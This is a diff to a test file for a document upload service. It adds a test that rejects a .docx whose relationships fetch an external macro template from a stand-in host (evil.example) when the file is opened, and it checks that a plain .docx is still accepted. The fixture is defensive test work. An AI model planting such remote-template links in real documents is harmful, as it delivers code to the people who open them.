@@ -5,6 +5,7 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, expect, test, vi } from 'vitest'
 import { mostBytes, uploadsPath } from '#contracts/authoring/library.ts'
 import { postOfficeToken } from '#contracts/integrations/tokens.office.ts'
+import { zipOf } from '#tests/zip-of.ts'
 import { sql } from '#server/platform/postgres/database.ts'
 import { tidyUploads } from './finish-upload.ts'
 import { arrivingFolder, keyOf } from './places-of-file.ts'
@@ -153,6 +154,22 @@ test('a PDF that acts by itself fails and leaves nothing', async () => {
   const id = await w.upload(w.mentor, { kind: 'file', name: 'plan.pdf', body })
   expect(await w.settled(id)).toMatchObject({ state: 'failed', failure: 'active_pdf', address: null, parts: [] })
   expect(await isThere(arriving(id))).toBe(false)
+})
+
+test('a document that fetches something when it is opened fails and leaves nothing', async () => {
+  const relation =
+    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
+  const document = (relations: string) =>
+    zipOf([
+      { name: '[Content_Types].xml', content: '<Types/>' },
+      { name: 'word/document.xml', content: '<document/>' },
+      { name: 'word/_rels/settings.xml.rels', content: `<Relationships>${relations}</Relationships>` },
+    ])
+  const id = await w.upload(w.mentor, { kind: 'file', name: 'plan.docx', body: await document(relation) })
+  expect(await w.settled(id)).toMatchObject({ state: 'failed', failure: 'active_document', address: null, parts: [] })
+  expect(await isThere(arriving(id))).toBe(false)
+  const plain = await w.upload(w.mentor, { kind: 'file', name: 'plan.docx', body: await document('') })
+  expect(await w.settled(plain)).toMatchObject({ state: 'ready' })
 })
 
 test('bytes that only begin like a film fail when they are read', async () => {
